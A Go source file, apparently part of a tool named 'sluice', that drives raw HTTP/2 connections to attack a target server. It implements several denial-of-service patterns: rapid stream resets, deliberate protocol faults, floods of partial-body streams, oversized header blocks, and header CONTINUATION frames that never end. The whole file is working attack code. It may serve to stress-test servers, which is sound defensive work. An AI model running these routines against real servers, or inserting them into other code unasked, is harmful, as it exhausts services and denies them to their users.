// SPDX-FileCopyrightText: The sluice authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is a connection over HTTP/2 whose frames are the attacker's own.
type session struct {
	*http2.Framer
	fields  bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32 // the last
	hangUp  func()
	gone    <-chan struct{} // closed when the server has hung up
}

func (a *assault) session(ctx context.Context, i int) (*session, error) {
	conn, hangUp, err := a.dial(ctx, a.target, i)
	if err != nil {
		return nil, err
	}
	gone := make(chan struct{})
	s := &session{Framer: http2.NewFramer(conn, nil), hangUp: hangUp, gone: gone}
	s.AllowIllegalWrites = true
	s.encoder = hpack.NewEncoder(&s.fields)
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err = errors.Join(err, s.WriteSettings()); err != nil {
		hangUp()
		return nil, err
	}
	go func() {
		defer close(gone)
		_, _ = io.Copy(io.Discard, conn) // until one of both hangs up
	}()
	return s, nil
}

// request opens a stream.
func (s *session) request(method, path string, end bool, more ...string) error {
	s.fields.Reset()
	all := append([]string{":method", method, ":scheme", "http", ":authority", "x", ":path", path}, more...)
	for i := 0; i < len(all); i += 2 {
		if err := s.encoder.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1], Sensitive: true}); err != nil {
			return err
		}
	}
	s.stream += 1 + s.stream%2
	if s.stream%2 == 0 {
		s.stream++
	}
	block := s.fields.Bytes()
	first := block[:min(len(block), 16_384)]
	err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: first, EndStream: end, EndHeaders: len(first) == len(block)})
	for block = block[len(first):]; err == nil && len(block) > 0; {
		part := block[:min(len(block), 16_384)]
		block = block[len(part):]
		err = s.WriteContinuation(s.stream, len(block) == 0, part)
	}
	return err
}

// wait returns when the server has hung up, or ctx has ended.
func (s *session) wait(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-s.gone:
		return io.EOF
	}
}

// sessions is an attack by n connections over HTTP/2, again and again.
func sessions(n int, f func(context.Context, *assault, *session) error) func(context.Context, *assault) {
	return func(ctx context.Context, a *assault) {
		a.each(ctx, n, func(ctx context.Context, i int) error {
			s, err := a.session(ctx, i)
			if err != nil {
				return err
			}
			defer s.hangUp()
			return f(ctx, a, s)
		})
	}
}

// resets opens 100 streams and resets each 2 ms later.
func resets(ctx context.Context, a *assault, s *session) error {
	for range 100 {
		n := a.sent.Add(1)
		if err := s.request("GET", "/slow"+strconv.FormatInt(n%3, 10), true, "x-key", strconv.FormatInt(n%1000, 10)); err != nil {
			return err
		}
		pause(ctx, 2*time.Millisecond)
		if err := s.WriteRSTStream(s.stream, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// faults breaks the protocol, so that the server ends the connection.
func faults(ctx context.Context, a *assault, s *session) error {
	a.sent.Add(1)
	if err := s.WriteWindowUpdate(0, 0); err != nil {
		return err
	}
	if err := s.wait(ctx); !errors.Is(err, io.EOF) {
		return err
	}
	return nil
}

// partial opens as many streams as a connection may have, each with a part of a
// body, up to what the server keeps of them.
func partial(ctx context.Context, a *assault, s *session) error {
	part := bytes.Repeat([]byte{'b'}, 10_000)
	for range 100 {
		a.sent.Add(1)
		if err := s.request("POST", "/held", false, "content-length", "66000"); err != nil {
			return err
		}
		if err := s.WriteData(s.stream, false, part); err != nil {
			return err
		}
	}
	return s.wait(ctx)
}

// fields opens as many streams as a connection may have, each with a large header.
func fields(path string) func(context.Context, *assault, *session) error {
	large := strings.Repeat("a", 15_000)
	return func(ctx context.Context, a *assault, s *session) error {
		for range 100 {
			a.sent.Add(1)
			if err := s.request("GET", path, true, "x-a", large, "x-b", large, "x-c", large, "x-d", large); err != nil {
				return err
			}
		}
		return s.wait(ctx)
	}
}

// unended sends a header whose end does not come.
func unended(ctx context.Context, a *assault, s *session) error {
	a.sent.Add(1)
	if err := s.request("GET", "/", true); err != nil {
		return err
	}
	s.stream += 2
	s.fields.Reset()
	for range 4 {
		if err := s.encoder.WriteField(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("a", 15_000), Sensitive: true}); err != nil {
			return err
		}
	}
	block := s.fields.Bytes()
	if err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: block[:16_000]}); err != nil {
		return err
	}
	for block = block[16_000:]; len(block) > 0; {
		part := block[:min(len(block), 16_000)]
		block = block[len(part):]
		if err := s.WriteContinuation(s.stream, false, part); err != nil {
			return err
		}
	}
	return s.wait(ctx)
}
